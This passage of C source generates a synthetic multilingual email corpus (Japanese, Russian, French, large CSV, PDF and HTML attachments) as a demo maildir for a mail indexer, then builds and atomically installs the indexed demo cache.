	demo_buf_puts(&out, "Content-Type: text/plain; charset=\"iso-2022-jp\"\n"
			    "Content-Transfer-Encoding: 7bit\n\n");
	demo_convert(demo_text_ja_body, DEMO_CS_JIS, &out);
	st = demo_write_file(g, &out);

	/* 2: Margaret answers in English, quoting the Japanese in UTF-8. */
	if (st == TRAWL_OK && budget >= 2) {
		const char *reply =
			"Dear Mr Yamamoto,\n\n"
			"Thank you for the shipping notice for the three KP-150 pumps. Could you\n"
			"send future notices in English or French? Nobody here reads Japanese;\n"
			"I used a translation tool to understand the dates.\n\n"
			"Best regards,\nMargaret\n\n-- \nMargaret O'Brien\nIngénieure procédés\n"
			"Régie des Eaux du Val-de-Brenne\n\n";
		struct demo_fmt f = {.cs = DEMO_CS_UTF8, .cs_label = "utf-8", .cte = DEMO_CTE_QP,
				     .hdr_enc = 'Q', .hdr_cs = DEMO_CS_UTF8, .hdr_label = "utf-8"};
		struct demo_tm tm;

		demo_localtime(t, DEMO_TZ_PARIS, &tm);
		demo_buf_init(&body, ctx);
		demo_buf_puts(&body, reply);
		demo_buf_printf(&body, "On %u %s %d, at %02u:%02u, 山本 健一 <%s> wrote:\n\n", tm.day,
				demo_phrases[DEMO_EN].months[tm.mon - 1], tm.year, tm.hour, tm.min,
				demo_email(g, ctx, kenichi));
		demo_prefix_lines(&body, demo_text_ja_body, "> ", 0);
		memset(&s, 0, sizeof(s));
		s.from = demo_person_addr(g, ctx, margaret, 'Q', DEMO_CS_UTF8, "utf-8");
		s.to = from_ja;
		s.cc = demo_person_addr(g, ctx, helene, 'Q', DEMO_CS_UTF8, "utf-8");
		s.subject = demo_encoded(g, ctx, demo_printf(g, ctx, "Re: %s", demo_text_ja_subject),
					 DEMO_CS_UTF8, "utf-8", 'Q');
		s.id = id2;
		s.irt = id1;
		s.refs = demo_printf(g, ctx, "<%s>", id1);
		s.when = t + 20000;
		s.zone = DEMO_TZ_PARIS;
		s.extra = "X-Mailer: Apple Mail (2.3124)\n";
		demo_buf_init(&out, ctx);
		demo_simple_headers(g, ctx, &out, &s);
		demo_emit_text(ctx, &out, demo_buf_str(&body), "plain", &f);
		st = demo_write_file(g, &out);
	}

	/* 3: the delay notice, answering both. */
	if (st == TRAWL_OK && budget >= 3) {
		memset(&s, 0, sizeof(s));
		s.from = from_ja;
		s.to = demo_person_addr(g, ctx, helene, 'B', DEMO_CS_UTF8, "UTF-8");
		s.cc = demo_person_addr(g, ctx, margaret, 'B', DEMO_CS_UTF8, "UTF-8");
		s.subject = demo_encoded(g, ctx, demo_text_ja_delay_subject, DEMO_CS_JIS, "ISO-2022-JP", 'B');
		s.id = id3;
		s.irt = id2;
		s.refs = demo_printf(g, ctx, "<%s> <%s>", id1, id2);
		s.when = t + 3 * 86400 + 7200;
		s.zone = DEMO_TZ_TOKYO;
		s.inbound = true;
		s.sender = "k-yamamoto@kaneda-pumps.example";
		s.extra = "X-Mailer: Microsoft Outlook 16.0\n";
		demo_buf_init(&out, ctx);
		demo_simple_headers(g, ctx, &out, &s);
		demo_buf_puts(&out, "Content-Type: text/plain; charset=ISO-2022-JP\n"
				    "Content-Transfer-Encoding: 7bit\n\n");
		demo_convert(demo_text_ja_delay_body, DEMO_CS_JIS, &out);
		st = demo_write_file(g, &out);
	}
	talloc_free(ctx);
	return st;
}

/* A Russian offer in KOI8-R and the buyer's answer in French. */
static trawl_status_t
demo_special_russian(struct demo_gen *g, unsigned budget)
{
	TALLOC_CTX *ctx = talloc_new(g->root);
	unsigned irina = demo_person_index("i.sokolova"), stephane = demo_person_index("stephane.roux-delmas");
	const char *id1;
	struct demo_simple s;
	struct demo_buf out;
	int64_t t = demo_start_time(g);
	trawl_status_t st;

	if (!ctx)
		return TRAWL_NOMEM;
	{
		unsigned hi = (unsigned)demo_rng_next(&g->rng);

		id1 = demo_printf(g, ctx, "%08x.%04x@severpribor.example", hi,
				  demo_rng_below(&g->rng, 0x10000));
	}
	memset(&s, 0, sizeof(s));
	s.from = demo_printf(g, ctx, "%s <%s>",
			     demo_encoded(g, ctx, "Ирина Соколова", DEMO_CS_KOI8R, "koi8-r", 'B'),
			     demo_email(g, ctx, irina));
	s.to = demo_person_addr(g, ctx, stephane, 'B', DEMO_CS_UTF8, "utf-8");
	s.subject = demo_encoded(g, ctx, demo_text_ru_subject, DEMO_CS_KOI8R, "koi8-r", 'B');
	s.id = id1;
	s.when = t;
	s.zone = DEMO_TZ_MOSCOW;
	s.inbound = true;
	s.sender = "i.sokolova@severpribor.example";
	s.extra = "X-Mailer: The Bat! (v3.99.3) Professional\n";
	demo_buf_init(&out, ctx);
	demo_simple_headers(g, ctx, &out, &s);
	demo_buf_puts(&out, "Content-Type: text/plain; charset=koi8-r\nContent-Transfer-Encoding: 8bit\n\n");
	demo_convert(demo_text_ru_body, DEMO_CS_KOI8R, &out);
	st = demo_write_file(g, &out);
	if (st == TRAWL_OK && budget >= 2) {
		struct demo_fmt f = {.cs = DEMO_CS_UTF8, .cs_label = "UTF-8", .cte = DEMO_CTE_8BIT,
				     .flowed = true};
		struct demo_buf body;

		demo_buf_init(&body, ctx);
		demo_buf_puts(&body, "Bonjour Madame,\n\nMerci pour votre offre. Pourriez-vous nous "
				     "l'adresser en anglais \nou en français ? Nous ne pouvons pas la "
				     "traiter en russe.\n\nCordialement,\nStéphane Roux-Delmas\n\n"
				     "-- \nStéphane Roux-Delmas\nAcheteur\nRégie des Eaux du Val-de-Brenne\n\n"
				     "Le ");
		demo_buf_printf(&body, "%s, Ирина Соколова a écrit :\n",
				demo_rfc5322_date(g, ctx, t, DEMO_TZ_PARIS, 0));
		demo_prefix_lines(&body, demo_text_ru_body, "> ", 0);
		memset(&s, 0, sizeof(s));
		s.from = demo_person_addr(g, ctx, stephane, 'Q', DEMO_CS_UTF8, "UTF-8");
		s.to = demo_printf(g, ctx, "%s <%s>",
				   demo_encoded(g, ctx, "Ирина Соколова", DEMO_CS_UTF8, "UTF-8", 'B'),
				   demo_email(g, ctx, irina));
		s.subject = demo_printf(g, ctx, "Re: %s",
					demo_encoded(g, ctx, demo_text_ru_subject, DEMO_CS_UTF8, "UTF-8", 'B'));
		s.id = demo_message_id(g, ctx, DEMO_THUNDERBIRD, demo_domain, t + 5400);
		s.irt = id1;
		s.refs = demo_printf(g, ctx, "<%s>", id1);
		s.when = t + 5400;
		s.zone = DEMO_TZ_PARIS;
		s.extra = "User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101\n"
			  " Thunderbird/45.8.0\n";
		demo_buf_init(&out, ctx);
		demo_simple_headers(g, ctx, &out, &s);
		demo_emit_text(ctx, &out, demo_buf_str(&body), "plain", &f);
		st = demo_write_file(g, &out);
	}
	talloc_free(ctx);
	return st;
}

/* The remote meter reading export: a ~200 KB CSV in windows-1252, as Excel wants it. */
static void
demo_large_csv(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, int64_t t)
{
	unsigned jb = demo_person_index("jb.moulin"), mathieu = demo_person_index("mathieu.sauvage");
	unsigned jerome = demo_person_index("jerome.dubois");
	struct demo_fmt f;
	struct demo_buf csv, bytes, body;
	struct demo_simple s;
	struct demo_tm tm;
	struct demo_att a;

	demo_localtime(t, DEMO_TZ_PARIS, &tm);
	demo_choose_fmt(g, DEMO_THUNDERBIRD, DEMO_FR, &f);
	f.html = false;
	demo_buf_init(&csv, ctx);
	demo_buf_puts(&csv, "PDL;Adresse;Commune;Index précédent;Index relevé;Consommation (m³);"
			    "Date de relève;Alarme\n");
	for (unsigned i = 0; csv.len < DEMO_LARGE_BYTES * 3 / 4 && !csv.oom; i++) {
		/* One draw per statement: the order of a call's arguments is unspecified in C. */
		unsigned prev = demo_rng_range(&g->rng, 100, 9000);
		unsigned use = demo_rng_below(&g->rng, 60);
		unsigned number = demo_rng_range(&g->rng, 1, 120);
		const char *street = demo_pick(g, &demo_streets);
		const char *site = demo_pick(g, &demo_sites);
		unsigned day = demo_rng_range(&g->rng, 1, 28);

		demo_buf_printf(&csv, "%09u;%u %s;%s;%u;%u;%u;%02u/%02u/%d;%s\n", 450000000 + i * 7,
				number, street, site, prev, prev + use, use, day, tm.mon, tm.year,
				use > 55 ? "Fuite probable" : use == 0 ? "Compteur bloqué ?" : "");
	}
	demo_buf_init(&bytes, ctx);
	demo_convert(demo_buf_str(&csv), DEMO_CS_CP1252, &bytes);
	memset(&a, 0, sizeof(a));
	a.type = "text/csv";
	a.charset = "windows-1252";
	a.name = demo_printf(g, ctx, "Export_télérelève_%d-%02u.csv", tm.year, tm.mon);
	a.name_style = DEMO_NAME_2231_CONT;
	a.data = demo_buf_str(&bytes);
	a.len = bytes.len;
	a.cte = DEMO_CTE_B64;
	demo_buf_init(&body, ctx);
	demo_buf_printf(&body, "Bonjour Mathieu,\n\nVoici l'export de télérelève de %s %d "
			       "(tous secteurs).\nLes lignes marquées « Fuite probable » sont à "
			       "traiter en priorité.\n\nBonne journée,\nJean-Baptiste\n\n-- \n"
			       "Jean-Baptiste Moulin\nTechnicien télérelève\n",
			demo_phrases[DEMO_FR].months[tm.mon - 1], tm.year);
	memset(&s, 0, sizeof(s));
	s.from = demo_person_addr(g, ctx, jb, f.hdr_enc, DEMO_CS_UTF8, "UTF-8");
	s.to = demo_person_addr(g, ctx, mathieu, f.hdr_enc, DEMO_CS_UTF8, "UTF-8");
	s.cc = demo_person_addr(g, ctx, jerome, f.hdr_enc, DEMO_CS_UTF8, "UTF-8");
	s.subject = demo_encoded(g, ctx, demo_printf(g, ctx, "Export télérelève %s %d",
						     demo_phrases[DEMO_FR].months[tm.mon - 1], tm.year),
				 DEMO_CS_UTF8, "UTF-8", f.hdr_enc);
	s.id = demo_message_id(g, ctx, DEMO_THUNDERBIRD, demo_domain, t);
	s.when = t;
	s.zone = DEMO_TZ_PARIS;
	demo_simple_headers(g, ctx, out, &s);
	demo_emit_body(g, ctx, out, DEMO_THUNDERBIRD, &f, demo_buf_str(&body), NULL, NULL, &a, 1);
	if (csv.oom || bytes.oom || body.oom)
		g->oom = true;
}

/* A scan from the copier: one big PDF and a two-line body. */
static void
demo_large_scan(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, int64_t t)
{
	unsigned beatrice = demo_person_index("beatrice.saint-clair");
	struct demo_fmt f = {.cs = DEMO_CS_LATIN1, .cs_label = "ISO-8859-1", .cte = DEMO_CTE_QP,
			     .preamble = "This is a multi-part message in MIME format."};
	static const char *const lines[] = {
		"Procès-verbal de la séance du conseil d'administration",
		"Délibérations n° 2016-14 à 2016-22 – copie certifiée conforme",
		"Signé : le Président",
	};
	struct demo_buf pdf, body;
	struct demo_simple s;
	struct demo_tm tm;
	struct demo_att a;

	demo_localtime(t, DEMO_TZ_PARIS, &tm);
	demo_buf_init(&pdf, ctx);
	demo_make_pdf(g, &pdf, "Document numérisé", lines, DEMO_ARRAY_SIZE(lines), t,
		      DEMO_LARGE_BYTES * 3 / 4);
	memset(&a, 0, sizeof(a));
	a.type = "application/pdf";
	a.name = demo_printf(g, ctx, "Scan_%04d%02u%02u_%02u%02u%02u.pdf", tm.year, tm.mon, tm.day,
			     tm.hour, tm.min, tm.sec);
	a.data = demo_buf_str(&pdf);
	a.len = pdf.len;
	a.cte = DEMO_CTE_B64;
	demo_buf_init(&body, ctx);
	demo_buf_printf(&body, "Veuillez trouver ci-joint le document numérisé.\n\n"
			       "Appareil : copieur 2e étage (SRV-COPIE-02)\nNombre de pages : %u\n"
			       "Résolution : 300 ppp\n",
			demo_rng_range(&g->rng, 4, 18));
	memset(&s, 0, sizeof(s));
	s.from = "=?ISO-8859-1?Q?Copieur_2e_=E9tage?= <scan-2e@eaux-valbrenne.example>";
	s.to = demo_person_addr(g, ctx, beatrice, 'Q', DEMO_CS_LATIN1, "ISO-8859-1");
	s.subject = "=?ISO-8859-1?Q?Document_num=E9ris=E9?=";
	s.id = demo_printf(g, ctx, "SCAN.%04d%02u%02u%02u%02u%02u.%04u@srv-copie-02.eaux-valbrenne.example",
			   tm.year, tm.mon, tm.day, tm.hour, tm.min, tm.sec, demo_rng_below(&g->rng, 10000));
	s.when = t;
	s.zone = DEMO_TZ_PARIS;
	demo_simple_headers(g, ctx, out, &s);
	demo_emit_body(g, ctx, out, DEMO_OUTLOOK, &f, demo_buf_str(&body), NULL, NULL, &a, 1);
	if (pdf.oom || body.oom)
		g->oom = true;
}

/* The internal press review: a large HTML newsletter (entities, lists, a table, links). */
static void
demo_large_review(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, int64_t t)
{
	unsigned claire = demo_person_index("claire.fontanel");
	static const char *const papers[] = {"L'Écho du Val", "Radio Val-de-Brenne", "La Gazette du Centre",
					     "Le Journal des Communes", "Hydro Magazine"};
	struct demo_env env = {.lang = DEMO_FR, .when = t};
	struct demo_buf plain, html;
	struct demo_fmt f;
	struct demo_simple s;
	struct demo_tm tm;
	unsigned n = 0;
	char *title;

	demo_localtime(t, DEMO_TZ_PARIS, &tm);
	demo_choose_fmt(g, DEMO_APPLE, DEMO_FR, &f);
	f.html = true;
	f.html_only = false;
	f.logo = false;
	title = demo_printf(g, ctx, "Revue de presse du %u %s %d", tm.day,
			    demo_phrases[DEMO_FR].months[tm.mon - 1], tm.year);
	demo_buf_init(&plain, ctx);
	demo_buf_init(&html, ctx);
	demo_buf_printf(&plain, "%s\n\n", title);
	demo_buf_puts(&html, "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\">\n"
			     "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; "
			     "charset=utf-8\"><title>Revue de presse</title></head>\n"
			     "<body style=\"font-family:Arial,sans-serif\">\n"
			     "<table width=\"600\" align=\"center\" cellpadding=\"0\" cellspacing=\"0\">"
			     "<tr><td>\n<h1>");
	demo_html_escape(&html, title, strlen(title), 0x7F, false);
	demo_buf_puts(&html, "</h1>\n<p>Service communication &ndash; diffusion interne, "
			     "ne pas transf&eacute;rer &agrave; l&rsquo;ext&eacute;rieur.</p>\n<ul>\n");
	for (unsigned i = 0; i < 5; i++) {
		const char *p = papers[i];

		demo_buf_puts(&html, "<li><a href=\"#a");
		demo_buf_printf(&html, "%u\">", i);
		demo_html_escape(&html, p, strlen(p), 0x7F, false);
		demo_buf_puts(&html, "</a></li>\n");
	}
	demo_buf_puts(&html, "</ul>\n");
	while (html.len < DEMO_LARGE_BYTES / 2 && !html.oom) {
		const struct demo_topic *topic = demo_pick_topic(g);
		char *head = demo_expand(g, ctx, &env, demo_pick(g, &topic->subjects[DEMO_FR]));
		char *para = demo_paragraph(g, ctx, &env, topic, demo_rng_range(&g->rng, 3, 6));
		const char *paper = papers[n % 5];

		demo_buf_printf(&plain, "* %s (%s, p. %u)\n\n", head, paper, demo_rng_range(&g->rng, 2, 24));
		demo_wrap(&plain, para, 76, false, "", "");
		demo_buf_putc(&plain, '\n');
		demo_buf_printf(&html, "<h2 id=\"a%u\">", n % 5);
		demo_html_escape(&html, head, strlen(head), 0x7F, false);
		demo_buf_puts(&html, "</h2>\n<p><i>");
		demo_html_escape(&html, paper, strlen(paper), 0x7F, false);
		demo_buf_printf(&html, "</i>, p.&nbsp;%u</p>\n<p>", demo_rng_range(&g->rng, 2, 24));
		demo_html_escape(&html, para, strlen(para), 0x7F, false);
		demo_buf_puts(&html, "</p>\n");
		if (n % 7 == 3) {
			char *table = demo_table(g, ctx, &env);

			demo_html_table(&html, table, 0x7F, false);
		}
		demo_buf_printf(&html, "<p><a href=\"https://intranet.eaux-valbrenne.example/presse/%d/"
				       "%02u/%u\">Lire l&rsquo;article complet</a></p>\n",
				tm.year, tm.mon, n);
		n++;
	}
	demo_buf_puts(&html, "</td></tr></table>\n</body></html>\n");
	demo_buf_puts(&plain, "-- \nClaire Fontanel\nResponsable de la communication\n");
	memset(&s, 0, sizeof(s));
	s.from = demo_person_addr(g, ctx, claire, 'Q', DEMO_CS_UTF8, "utf-8");
	s.to = "tous@lists.eaux-valbrenne.example";
	s.subject = demo_encoded(g, ctx, demo_printf(g, ctx, "[Tous] %s", title), DEMO_CS_UTF8, "utf-8", 'Q');
	s.id = demo_message_id(g, ctx, DEMO_APPLE, demo_domain, t);
	s.when = t;
	s.zone = DEMO_TZ_PARIS;
	s.extra = "X-Mailer: Apple Mail (2.3124)\n";
	demo_simple_headers(g, ctx, out, &s);
	demo_emit_body(g, ctx, out, DEMO_APPLE, &f, demo_buf_take(g, &plain), demo_buf_take(g, &html),
		       NULL, NULL, 0);
}

static trawl_status_t
demo_special_large(struct demo_gen *g, unsigned which)
{
	TALLOC_CTX *ctx = talloc_new(g->root);
	struct demo_buf out;
	int64_t t = demo_start_time(g);
	trawl_status_t st;

	if (!ctx)
		return TRAWL_NOMEM;
	demo_buf_init(&out, ctx);
	switch (which % 3) {
	case 0:
		demo_large_csv(g, ctx, &out, t);
		break;
	case 1:
		demo_large_scan(g, ctx, &out, t);
		break;
	default:
		demo_large_review(g, ctx, &out, t);
		break;
	}
	st = demo_write_file(g, &out);
	talloc_free(ctx);
	return st;
}

/*
 * Another copy of the last ordinary message, as the archive mailbox kept
 * it: the same Message-ID in a second file, with its own delivery headers.
 */
static trawl_status_t
demo_special_duplicate(struct demo_gen *g)
{
	TALLOC_CTX *ctx;
	struct demo_buf out;
	trawl_status_t st;

	if (!g->last)
		return TRAWL_OK;
	ctx = talloc_new(g->root);
	if (!ctx)
		return TRAWL_NOMEM;
	demo_buf_init(&out, ctx);
	demo_buf_printf(&out, "Delivered-To: archives@%s\nX-Original-To: archives@%s\n", demo_domain,
			demo_domain);
	demo_buf_add(&out, g->last, g->last_len);
	st = demo_write_file(g, &out);
	talloc_free(ctx);
	return st;
}

static trawl_status_t
demo_special_run(struct demo_gen *g, const struct demo_special *sp, unsigned budget)
{
	demo_gen_stream(g);
	switch (sp->kind) {
	case DEMO_SP_HOSTILE:
		return demo_special_hostile(g, (enum demo_hostile)sp->arg);
	case DEMO_SP_JAPANESE:
		return demo_special_japanese(g, budget);
	case DEMO_SP_RUSSIAN:
		return demo_special_russian(g, budget);
	case DEMO_SP_LARGE:
		return demo_special_large(g, sp->arg);
	default:
		return demo_special_duplicate(g);
	}
}

/* ---------------------------------------------------------------- the maildir */

static trawl_status_t
demo_mkdir(TALLOC_CTX *ctx, const char *path, char **error)
{
	struct stat st;

	if (mkdir(path, 0700) == 0)
		return TRAWL_OK;
	if (errno == EEXIST && stat(path, &st) == 0 && S_ISDIR(st.st_mode))
		return TRAWL_OK;
	*error = talloc_asprintf(ctx, "%s: %s", path, errno == EEXIST ? "exists and is not a directory"
									: strerror(errno));
	return TRAWL_IO;
}

/*
 * The specials, in an order shuffled by the seed, so that hostile and
 * large messages do not always come at the same places.
 */
static unsigned
demo_schedule(struct demo_gen *g, unsigned count, struct demo_special *sp, unsigned max)
{
	unsigned n = 0, large = count / 750 > 3 ? count / 750 : 3, dups = count / 300 > 3 ? count / 300 : 3;

	for (unsigned h = 0; h < DEMO_HOSTILES && n < max; h++)
		sp[n++] = (struct demo_special){DEMO_SP_HOSTILE, h};
	if (n < max)
		sp[n++] = (struct demo_special){DEMO_SP_JAPANESE, 0};
	if (n < max)
		sp[n++] = (struct demo_special){DEMO_SP_RUSSIAN, 0};
	for (unsigned i = 0; i < large && n < max; i++)
		sp[n++] = (struct demo_special){DEMO_SP_LARGE, i};
	for (unsigned i = 0; i < dups && n < max; i++)
		sp[n++] = (struct demo_special){DEMO_SP_DUPLICATE, i};
	demo_gen_stream(g);
	for (unsigned i = n; i > 1; i--) {
		unsigned j = demo_rng_below(&g->rng, i);
		struct demo_special t = sp[i - 1];

		sp[i - 1] = sp[j];
		sp[j] = t;
	}
	return n;
}

trawl_status_t
demo_write_maildir(TALLOC_CTX *ctx, const char *maildir_path, unsigned count, unsigned seed,
		   char **error)
{
	static const char *const subdirs[] = {"cur", "new", "tmp"};
	struct demo_special sp[256];
	struct demo_gen *g;
	unsigned nsp, next = 0;
	trawl_status_t st;

	*error = NULL;
	if (!maildir_path || !*maildir_path) {
		*error = talloc_strdup(ctx, "demo_write_maildir: no maildir path");
		return TRAWL_USAGE;
	}
	st = demo_mkdir(ctx, maildir_path, error);
	for (unsigned i = 0; i < DEMO_ARRAY_SIZE(subdirs) && st == TRAWL_OK; i++) {
		char *sub = talloc_asprintf(ctx, "%s/%s", maildir_path, subdirs[i]);

		if (!sub)
			return TRAWL_NOMEM;
		st = demo_mkdir(ctx, sub, error);
		talloc_free(sub);
	}
	if (st != TRAWL_OK)
		return st;

	g = talloc_zero(NULL, struct demo_gen);
	if (!g)
		return TRAWL_NOMEM;
	g->root = g;
	g->dir = maildir_path;
	g->seed = seed;
	g->count = count;
	nsp = demo_schedule(g, count, sp, DEMO_ARRAY_SIZE(sp));
	while (g->seq < count && st == TRAWL_OK) {
		/* The k-th special goes at the middle of the k-th slice of the corpus. */
		unsigned pos = next < nsp ? (unsigned)((uint64_t)count * (2 * next + 1) / (2 * nsp)) : count;

		if (g->seq >= pos) {
			st = demo_special_run(g, &sp[next++], count - g->seq);
			continue;
		}
		demo_gen_stream(g);
		st = demo_thread_run(g, pos - g->seq);
	}
	if (st == TRAWL_OK && g->oom)
		st = TRAWL_NOMEM;
	if (st != TRAWL_OK)
		*error = talloc_asprintf(ctx, "%s: %s", maildir_path,
					 g->io_error ? g->io_error : trawl_status_str(st));
	talloc_free(g);
	return st;
}

/* ---------------------------------------------------------------- the cache */

static int
demo_rm_entry(const char *path, const struct stat *sb, int type, struct FTW *ftw)
{
	(void)sb;
	(void)type;
	(void)ftw;
	return remove(path) == 0 ? 0 : -1;
}

/* Removes a directory tree this module made (never follows symbolic links). */
static void
demo_rm_tree(const char *path)
{
	(void)nftw(path, demo_rm_entry, 16, FTW_DEPTH | FTW_PHYS);
}

static int
demo_strcmp(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Indexes every file of maildir/cur, in name order, through the index-build module. */
static trawl_status_t
demo_index(TALLOC_CTX *ctx, const char *db_path, const char *config, char **error)
{
	index_build_t *b;
	char *cur = talloc_asprintf(ctx, "%s/cur", db_path);
	char **names = NULL;
	size_t n = 0;
	DIR *d;
	struct dirent *e;
	trawl_status_t st;

	if (!cur)
		return TRAWL_NOMEM;
	d = opendir(cur);
	if (!d) {
		*error = talloc_asprintf(ctx, "%s: %s", cur, strerror(errno));
		return TRAWL_IO;
	}
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		names = talloc_realloc(ctx, names, char *, n + 1);
		if (!names || !(names[n] = talloc_asprintf(names, "%s/%s", cur, e->d_name))) {
			closedir(d);
			return TRAWL_NOMEM;
		}
		n++;
	}
	closedir(d);
	if (n)
		qsort(names, n, sizeof(*names), demo_strcmp);

	st = index_build_create(ctx, db_path, config, &b, error);
	if (st != TRAWL_OK)
		return st;
	for (size_t i = 0; i < n && st == TRAWL_OK; i++)
		st = index_build_add_file(b, names[i], NULL);
	if (st == TRAWL_OK)
		st = index_build_close(b);
	if (st != TRAWL_OK)
		*error = talloc_asprintf(ctx, "%s: indexing failed: %s", db_path,
					 *index_build_last_error(b) ? index_build_last_error(b)
								    : trawl_status_str(st));
	talloc_free(b);
	talloc_free(names);
	return st;
}

/*
 * True when config opens a database at mail.  The path is checked too: a
 * config without database.path would open the user's default database.
 */
static bool
demo_cache_opens(TALLOC_CTX *ctx, const char *config, const char *mail, char **why)
{
	index_t *idx;
	char *err = NULL;
	trawl_status_t st = index_open(ctx, NULL, config, &idx, &err);
	bool ok;

	if (st != TRAWL_OK) {
		*why = err;
		return false;
	}
	ok = strcmp(index_db_path(idx), mail) == 0;
	if (!ok)
		*why = talloc_asprintf(ctx, "it names the database %s", index_db_path(idx));
	talloc_free(idx);
	return ok;
}

/*
 * Removes build directories (dir.tmp-XXXXXX) that an interrupted earlier
 * attempt left behind.  One younger than an hour may belong to another
 * trawl building the same cache right now, so it is left alone.
 */
static void
demo_clean_stale(TALLOC_CTX *ctx, const char *abs)
{
	const char *slash = strrchr(abs, '/');
	char *parent = talloc_strndup(ctx, abs, slash && slash != abs ? (size_t)(slash - abs) : 1);
	const char *base = slash ? slash + 1 : abs;
	size_t blen = strlen(base);
	time_t now = time(NULL);
	struct dirent *e;
	DIR *d;

	if (!parent || !(d = opendir(parent)))
		return;
	while ((e = readdir(d))) {
		struct stat sb;
		char *path;

		if (strncmp(e->d_name, base, blen) != 0 || strncmp(e->d_name + blen, ".tmp-", 5) != 0 ||
		    strlen(e->d_name + blen + 5) != 6)
			continue;
		path = talloc_asprintf(ctx, "%s/%s", parent, e->d_name);
		if (path && lstat(path, &sb) == 0 && S_ISDIR(sb.st_mode) && now - sb.st_mtime > 3600)
			demo_rm_tree(path);
		talloc_free(path);
	}
	closedir(d);
}

/* mkdir -p for the parents of a path. */
static trawl_status_t
demo_mkdir_parents(TALLOC_CTX *ctx, const char *path, char **error)
{
	if (util_mkdirs_for(path) == 0)
		return TRAWL_OK;
	*error = talloc_asprintf(ctx, "cannot make the folders of %s: %s", path, strerror(errno));
	return TRAWL_IO;
}

/* The absolute form of dir, without trailing slashes; NULL if it cannot go in a config file. */
static char *
demo_abs_path(TALLOC_CTX *ctx, const char *dir)
{
	char *abs;
	size_t n;

	if (dir[0] == '/') {
		abs = talloc_strdup(ctx, dir);
	} else {
		char *cwd = getcwd(NULL, 0);

		abs = cwd ? talloc_asprintf(ctx, "%s/%s", cwd, dir) : NULL;
		free(cwd);
	}
	if (!abs)
		return NULL;
	n = strlen(abs);
	while (n > 1 && abs[n - 1] == '/')
		abs[--n] = '\0';
	/* Key files strip blanks at the ends of values and give backslashes a meaning. */
	for (const unsigned char *u = (const unsigned char *)abs; *u; u++)
		if (*u < 0x20 || *u == 0x7F || *u == '\\')
			return NULL;
	if (n < 2 || abs[n - 1] == ' ')
		return NULL;
	return abs;
}

trawl_status_t
demo_make_cache(TALLOC_CTX *ctx, const char *dir, unsigned count, char **error)
{
	TALLOC_CTX *tmp = talloc_new(NULL);
	char *abs, *config, *mail, *tmpdir = NULL, *why = NULL;
	struct stat sb;
	trawl_status_t st = TRAWL_OK;

	*error = NULL;
	if (!tmp)
		return TRAWL_NOMEM;
	abs = dir && *dir ? demo_abs_path(tmp, dir) : NULL;
	if (!abs) {
		*error = talloc_asprintf(ctx, "%s: not usable as a demo cache directory", dir ? dir : "(null)");
		talloc_free(tmp);
		return TRAWL_USAGE;
	}
	config = talloc_asprintf(tmp, "%s/notmuch-config", abs);
	mail = talloc_asprintf(tmp, "%s/mail", abs);
	if (!config || !mail) {
		talloc_free(tmp);
		return TRAWL_NOMEM;
	}
	if (stat(config, &sb) == 0) {
		if (demo_cache_opens(tmp, config, mail, &why)) {
			talloc_free(tmp);
			return TRAWL_OK;
		}
		*error = talloc_asprintf(ctx, "%s exists but its database does not open (%s); remove it "
					      "to rebuild the demo cache", abs, why ? why : "unknown error");
		talloc_free(tmp);
		return TRAWL_EXISTS;
	}

	st = demo_mkdir_parents(tmp, abs, &why);
	if (st == TRAWL_OK)
		demo_clean_stale(tmp, abs);
	if (st == TRAWL_OK) {
		tmpdir = talloc_asprintf(tmp, "%s.tmp-XXXXXX", abs);
		if (!tmpdir)
			st = TRAWL_NOMEM;
		else if (!mkdtemp(tmpdir)) {
			why = talloc_asprintf(tmp, "%s: %s", tmpdir, strerror(errno));
			tmpdir = NULL;
			st = TRAWL_IO;
		}
	}
	if (st == TRAWL_OK) {
		char *tmpmail = talloc_asprintf(tmp, "%s/mail", tmpdir);
		char *tmpconfig = talloc_asprintf(tmp, "%s/notmuch-config", tmpdir);

		if (!tmpmail || !tmpconfig)
			st = TRAWL_NOMEM;
		if (st == TRAWL_OK)
			st = demo_write_maildir(tmp, tmpmail, count, DEMO_DEFAULT_SEED, &why);
		/* The config names the final place; the database is built where the mail is now. */
		if (st == TRAWL_OK)
			st = index_build_write_config(tmp, tmpconfig, mail, "demo cache", &why);
		if (st == TRAWL_OK)
			st = demo_index(tmp, tmpmail, tmpconfig, &why);
	}
	if (st == TRAWL_OK && rename(tmpdir, abs) != 0) {
		int e = errno;

		/* Another trawl may have finished the same cache first. */
		if ((e == ENOTEMPTY || e == EEXIST) && stat(config, &sb) == 0 &&
		    demo_cache_opens(tmp, config, mail, &why)) {
			st = TRAWL_OK;
		} else {
			why = talloc_asprintf(tmp, "%s exists and is not a demo cache (%s); remove it "
						   "to rebuild the demo cache", abs, strerror(e));
			st = e == ENOTEMPTY || e == EEXIST ? TRAWL_EXISTS : TRAWL_IO;
		}
		demo_rm_tree(tmpdir);
	} else if (st != TRAWL_OK && tmpdir) {
		demo_rm_tree(tmpdir);
	}
	if (st != TRAWL_OK)
		*error = talloc_strdup(ctx, why ? why : trawl_status_str(st));
	talloc_free(tmp);
	return st;
}
